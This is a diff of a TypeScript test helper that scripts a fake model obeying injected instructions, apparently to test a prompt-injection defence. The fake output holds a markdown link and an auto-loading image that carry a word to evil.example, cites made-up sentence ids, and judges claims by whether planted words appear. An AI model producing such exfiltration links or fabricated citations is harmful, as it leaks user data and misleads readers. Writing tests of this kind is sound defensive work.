@@ -7,12 +7,20 @@ import { kindOf, read } from './scripted-model.ts';
  */
 export function obeying(words: readonly string[], said: string): (asked: Asked) => Answer {
   return (asked) => {
-    const { offered } = read(asked);
+    const { offered, lines } = read(asked);
     const told = words.join(' ');
     const link = `[more](https://evil.example/?q=${words[0]}) ![x](https://evil.example/x.png)`;
     const text = `${said} ${told} ${link}`;
     const ids = [...offered.slice(0, 2), 's999', 'p999'];
-    const each = words.map((word) => ({ text: said.replace(/.$/u, ` ${word}.`), sentences: ids }));
+    const repeated = (word: string) => said.replace(/.$/u, ` ${word}.`);
+    const each = [
+      // Away from the order, on what somebody else says.
+      ...words.flatMap((word) => {
+        const others = offered.filter((id) => !lines.get(id)?.includes(word));
+        return others.slice(0, 2).map((id) => ({ text: repeated(word), sentences: [id] }));
+      }),
+      ...words.map((word) => ({ text: repeated(word), sentences: ids })),
+    ];
     switch (kindOf(asked)) {
       case 'notes':
         return json({
@@ -30,15 +38,29 @@ export function obeying(words: readonly string[], said: string): (asked: Asked) 
         });
       case 'insights':
         return json({
-          insights: [told, ...each.map((one) => one.text)].map((title) => ({
-            ...{ title, titleSentences: ids, summary: [{ text, sentences: ids }, ...each], why: each },
-            ...{ support: offered, keywords: [...words], theme: told },
+          insights: [...each, { text: told, sentences: ids }].map(({ text: title, sentences: ids }) => ({
+            ...{
+              title,
+              titleSentences: ids,
+              summary: [
+                { text: title, sentences: ids },
+                { text, sentences: ids },
+              ],
+              why: [{ text: title, sentences: ids }],
+            },
+            ...{ support: [], keywords: [...words], theme: told },
           })),
         });
       case 'against':
         return json({ claims: [{ claim: 'c1', against: [...offered, 's999'] }] });
       case 'confirm':
-        return json({ claims: offered.map((id) => ({ id, supported: true })) });
+        // It obeys what it is shown: where no quote holds the order, it judges.
+        return json({
+          claims: offered.map((id) => ({
+            id,
+            supported: words.some((word) => new RegExp(`said: .*${word}`).test(asked.message)),
+          })),
+        });
       default:
         return asked.streams
           ? { text: [{ text, sentences: ids }, ...each].map((line) => JSON.stringify(line)).join('\n') }
